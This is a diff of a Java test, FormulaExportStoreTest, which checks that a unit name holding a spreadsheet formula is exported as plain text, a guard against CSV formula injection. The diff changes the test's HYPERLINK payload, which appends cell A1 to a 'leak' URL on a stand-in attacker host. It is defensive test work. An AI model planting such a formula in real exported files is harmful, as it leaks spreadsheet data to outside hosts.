@@ -26,7 +26,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * HTTP, while its negative values stay numbers.
  */
 class FormulaExportStoreTest extends StoreTest {
-    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Kliknij\")";
+    static final String FORMULA = "=HYPERLINK(\"http://zly.invalid/?wyciek=\"&A1,\"Kliknij\")";
 
     @Autowired
     CatalogueService catalogue;
@@ -36,7 +36,7 @@ class FormulaExportStoreTest extends StoreTest {
     @Test
     void aFormulaUnitNameIsExportedAsTextAndNegativeNumbersStayNumbers() throws Exception {
         String units = "code,name,name_en,kind,parent_code,aliases,latitude,longitude,valid_from,valid_to\n"
-                + "FORMULA-1,\"" + FORMULA.replace("\"", "\"\"") + "\",,city_county,,,,,,\n";
+                + "FORMULA-1,\"" + FORMULA.replace("\"", "\"\"") + "\",,gmina,,,,,,\n";
         assertThat(catalogue.loadUnits(new StringReader(units), "units.csv", "test").rejected()).isFalse();
         Path data = Files.createTempFile("formula", ".csv");
         Files.writeString(data, "unit,indicator,period,value,flags,source\n"
